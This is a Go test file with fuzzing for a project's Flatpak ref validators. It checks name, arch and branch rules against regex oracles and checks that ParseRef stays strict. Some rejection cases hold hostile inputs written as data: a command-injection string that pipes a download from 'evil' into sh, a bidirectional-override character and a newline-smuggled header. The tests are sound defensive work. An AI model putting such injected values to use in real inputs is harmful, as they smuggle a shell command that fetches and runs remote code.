package flatpak_test

import (
	"regexp"
	"testing"

	"github.com/berth-dev/berth/flatpak"
)

// The rules of flatpak's common/flatpak-ref-utils.c as regular
// expressions: the oracle the hand-written checks are fuzzed against.
var (
	nameOracle   = regexp.MustCompile(`^[A-Za-z_][A-Za-z0-9_]*(\.[A-Za-z_][A-Za-z0-9_]*)+\.[A-Za-z_-][A-Za-z0-9_-]*$`)
	archOracle   = regexp.MustCompile(`^[A-Za-z0-9_]+$`)
	branchOracle = regexp.MustCompile(`^[A-Za-z0-9_-][A-Za-z0-9_.-]*$`)
)

func nameOK(s string) bool { return len(s) <= 255 && nameOracle.MatchString(s) }

func TestRefParts(t *testing.T) {
	for _, tc := range []struct {
		s                string
		name, arch, bran bool
	}{
		{"org.example.App", true, false, true},
		{"org.example.App-Dev", true, false, true},
		{"org.ex-ample.App", false, false, true}, // '-' only in the last element
		{"_a._b._c", true, false, true},
		{"org.example", false, false, true}, // two elements
		{"org..example.App", false, false, true},
		{".org.example.App", false, false, false},
		{"org.example.App.", false, false, true},
		{"org.1example.App", false, false, true}, // element starting with a digit
		{"org.example.App;curl${IFS}evil|sh", false, false, false},
		{"org.example.App curl", false, false, false},
		{"org.example.Ap\u202ep", false, false, false},
		{"org.example.'App'", false, false, false},
		{"x86_64", false, true, true},
		{"stable", false, true, true},
		{"3.38", false, false, true},
		{"-rf", false, false, true},
		{"", false, false, false},
		{"a\nb", false, false, false},
	} {
		if got := flatpak.ValidName(tc.s); got != tc.name {
			t.Errorf("ValidName(%q) = %v", tc.s, got)
		}
		if got := flatpak.ValidArch(tc.s); got != tc.arch {
			t.Errorf("ValidArch(%q) = %v", tc.s, got)
		}
		if got := flatpak.ValidBranch(tc.s); got != tc.bran {
			t.Errorf("ValidBranch(%q) = %v", tc.s, got)
		}
	}
	long := "org.example."
	for len(long) < 255 {
		long += "a"
	}
	if !flatpak.ValidName(long) || flatpak.ValidName(long+"a") {
		t.Error("the 255-byte limit is not applied")
	}
}

func TestParseRefStrict(t *testing.T) {
	for _, s := range []string{"app/org.example.App/x86_64/stable", "runtime/org.freedesktop.Platform/aarch64/23.08"} {
		if r, err := flatpak.ParseRef(s); err != nil || r.String() != s {
			t.Errorf("ParseRef(%q) = %+v, %v", s, r, err)
		}
	}
	for _, s := range []string{
		"app/org.sh.App;curl${IFS}evil|sh/x86_64/stable",
		"app/org.example.App/x86 64/stable",
		"app/org.example.App/x86_64/sta'ble",
		"app/org.example.App/x86_64/.hidden",
		"app/org.example.App/x86_64/stable\n[Flatpak Ref]",
		"app/a/x86_64/stable",
	} {
		if r, err := flatpak.ParseRef(s); err == nil {
			t.Errorf("ParseRef(%q) accepted: %+v", s, r)
		}
	}
}

func FuzzRefParts(f *testing.F) {
	for _, s := range []string{"org.example.App", "org.ex-ample.App", "a.b.c-", "x86_64", "3.38", ".x", "a..b.c", "-"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		if got, want := flatpak.ValidName(s), nameOK(s); got != want {
			t.Fatalf("ValidName(%q) = %v, flatpak's rule says %v", s, got, want)
		}
		if got, want := flatpak.ValidArch(s), archOracle.MatchString(s); got != want {
			t.Fatalf("ValidArch(%q) = %v, flatpak's rule says %v", s, got, want)
		}
		if got, want := flatpak.ValidBranch(s), branchOracle.MatchString(s); got != want {
			t.Fatalf("ValidBranch(%q) = %v, flatpak's rule says %v", s, got, want)
		}
	})
}
